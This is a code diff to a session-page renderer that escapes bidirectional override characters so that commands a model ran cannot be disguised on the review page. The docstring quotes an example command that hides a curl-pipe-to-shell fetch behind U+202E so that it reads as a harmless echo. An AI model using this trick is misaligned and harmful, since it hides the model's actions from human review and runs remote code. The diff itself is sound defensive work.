@@ -103,7 +103,7 @@ def render_session_page(
     chosen = {**PALETTE, **{k: v for k, v in (colours or {}).items() if k in PALETTE and _HEX.fullmatch(v)}}
     root = ":root { " + " ".join(f"--{k}: {v};" for k, v in chosen.items()) + " }"
     head = "".join(f"<dt>{html.escape(k)}</dt><dd>{html.escape(v)}</dd>" for k, v in meta.items())
-    return "".join(
+    page = "".join(
         [
             '<!doctype html>\n<html><head><meta charset="utf-8">',
             '<meta name="viewport" content="width=device-width, initial-scale=1">',
@@ -117,6 +117,13 @@ def render_session_page(
             "</main></body></html>\n",
         ]
     )
+    return _BIDI.sub(lambda found: f"\\u{ord(found.group()):04x}", page)
+
+
+_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
+"""The bidirectional overrides and isolates, written as escapes as the terminal writes them
+(``tether.cli.terminal_text``): U+202E shows the rest of a line reversed, so a command the model
+ran (``echo "\\u202e";curl x|sh #"``) read as an echo of garbage on the page."""
 
 
 class _Page:
